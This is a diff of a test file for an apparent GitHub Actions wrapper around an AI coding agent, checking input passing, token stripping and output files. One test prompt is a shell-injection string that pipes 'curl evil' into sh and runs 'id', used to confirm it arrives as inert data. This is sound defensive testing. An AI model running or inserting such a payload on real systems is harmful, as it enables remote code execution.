@@ -170,11 +170,7 @@ describe("what other engines start", function () {
       [false, "issue_comment", { comment: by("NONE"), issue: by("OWNER") }],
       [false, "issue_comment", { comment: by("CONTRIBUTOR") }],
       [false, "issues", { issue: by("FIRST_TIMER"), sender: { type: "User", login: "member" } }],
-      [
-        false,
-        "issues",
-        { issue: by("OWNER", { user: { login: "x[bot]" } }), sender: { type: "Bot", login: "x[bot]" } },
-      ],
+      [false, "issues", { issue: by("OWNER"), sender: { type: "Bot", login: "x[bot]" } }],
       [false, "push", { sender: { type: "Bot", login: "owner" } }],
       [false, "issues", {}],
     ];
@@ -196,57 +192,34 @@ describe("what other engines start", function () {
   it("on GitHub: inputs reach it as they are, tokens do not, and nothing that it prints gets into the log", () => {
     const place = join(folder, "action");
     mkdirSync(join(place, "dist"), { recursive: true });
-    const seen =
-      "require('fs').appendFileSync(process.env.SEEN, JSON.stringify([process.argv.slice(2), process.env]) + '\\n')";
-    writeFileSync(join(place, "dist/cli.js"), `${seen}; console.log("::error::mine"); process.exit(5);`);
-    const files = Object.fromEntries(
-      ["SEEN", "GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY"].map(name => [name, join(place, name)]),
+    const keep = "require('fs').writeFileSync(process.env.SEEN, JSON.stringify([process.argv.slice(2), process.env]))";
+    writeFileSync(
+      join(place, "dist/cli.js"),
+      `if (process.argv[2] === "run") ${keep}; console.log("::error::x"); process.exit(5);`,
     );
+    const [seen, output, summary] = ["seen", "output", "summary"].map(name => join(place, name));
     const prompt = 'x\'; curl evil | sh #\n$(id) `id` "--trust"';
+    const given =
+      "MODEL=m KEY=k KEY_VARIABLE=ANTHROPIC_API_KEY BASE_URL= TRUST=yes MODE=edits MAX_COST=2 MAX_MINUTES=3";
+    const tokens = "GITHUB_TOKEN=t ACTIONS_ID_TOKEN_REQUEST_TOKEN=t GITHUB_ENV=/e ACTIONS_RUNTIME_TOKEN=t";
     const inputs = {
-      PROMPT: prompt,
-      MODEL: "m",
-      KEY: "k",
-      KEY_VARIABLE: "ANTHROPIC_API_KEY",
-      BASE_URL: "",
-      TRUST: "yes",
-    };
-    const limits = {
-      WORKSPACE: "a b",
-      MODE: "edits",
-      ALLOW: "Bash(npm test *)\n\nBash(ls)",
-      MAX_COST: "2",
-      MAX_MINUTES: "3",
-    };
-    const tokens = {
-      GITHUB_TOKEN: "t",
-      ACTIONS_ID_TOKEN_REQUEST_TOKEN: "t",
-      GITHUB_ENV: "/e",
-      ACTIONS_RUNTIME_TOKEN: "t",
+      ...Object.fromEntries(`${given} ${tokens}`.split(" ").map(pair => pair.split("="))),
+      ...{ PROMPT: prompt, WORKSPACE: "a b", ALLOW: "Bash(npm test *)\n\nBash(ls)", GITHUB_ACTION_PATH: place },
+      ...{ RUNNER_TEMP: place, SEEN: seen, GITHUB_OUTPUT: output, GITHUB_STEP_SUMMARY: summary },
+      PATH: `${dirname(process.execPath)}${delimiter}${process.env.PATH}`,
     };
     const run = (more: object = {}) =>
-      spawnSync("bash", [join(root, "integrations/github/run.sh")], {
-        encoding: "utf8",
-        env: {
-          PATH: `${dirname(process.execPath)}${delimiter}${process.env.PATH}`,
-          ...{ GITHUB_ACTION_PATH: place, RUNNER_TEMP: place, ...files, ...inputs, ...limits, ...tokens, ...more },
-        },
-      });
+      spawnSync("bash", [join(root, "integrations/github/run.sh")], { encoding: "utf8", env: { ...inputs, ...more } });
     const { status, stdout, stderr } = run();
     assert.equal(status, 5, stderr);
     assert.doesNotMatch(stdout + stderr, /::error/);
-    const [[args, env]] = readFileSync(join(place, "SEEN"), "utf8")
-      .split("\n")
-      .filter(Boolean)
-      .map(line => JSON.parse(line));
+    const [args, env] = JSON.parse(readFileSync(seen ?? "", "utf8"));
     assert.ok(args.includes(`--prompt=${prompt}`) && args.includes("--allow=Bash(ls)") && args.includes("a b"));
     assert.ok(!args.includes("--trust"), "only true is true");
     assert.equal(env.ANTHROPIC_API_KEY, "k");
-    for (const name of [...Object.keys(tokens), "KEY", "GITHUB_OUTPUT"]) assert.equal(env[name], undefined, name);
-    assert.match(
-      readFileSync(join(place, "GITHUB_OUTPUT"), "utf8"),
-      /^exit-code=5\nresult=.*\/result\.json\npatch=.*\npatch|patch=/,
-    );
+    for (const name of `${tokens} KEY GITHUB_OUTPUT`.split(/(?:=\S*)? /)) assert.equal(env[name], undefined, name);
+    const written = readFileSync(output ?? "", "utf8");
+    assert.match(written, /^exit-code=5\nresult=\/.*\/result\.json\npatch=\/.*\/change\.patch\nfolder=\/.*\n$/);
     for (const name of ["PATH", "NODE_OPTIONS", "a-b", ""]) assert.equal(run({ KEY_VARIABLE: name }).status, 2, name);
   });
 
